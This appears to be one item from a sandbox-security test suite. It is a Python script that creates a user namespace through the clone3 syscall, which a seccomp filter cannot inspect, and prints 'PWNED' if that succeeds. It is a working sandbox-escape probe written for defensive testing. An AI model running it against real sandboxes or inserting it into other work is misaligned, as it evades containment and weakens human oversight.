# /// attack
# category = "kernel-surface"
# kind = "stdio"
# success = "marker"
# expected = ["wrong_answer", "sandbox_violation"]
# summary = "Creates a user namespace with clone3, whose flags a filter cannot inspect."
# ///

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
CLONE_NEWUSER, SIGCHLD, CLONE3 = 0x10000000, 17, 435
arguments = (ctypes.c_uint64 * 11)(CLONE_NEWUSER, 0, 0, 0, SIGCHLD)
pid = libc.syscall(
    ctypes.c_long(CLONE3), ctypes.c_long(ctypes.addressof(arguments)), ctypes.c_long(88)
)
if pid == 0:
    os._exit(0)
if pid > 0:
    print("PWNED")
else:
    print("blocked", ctypes.get_errno())
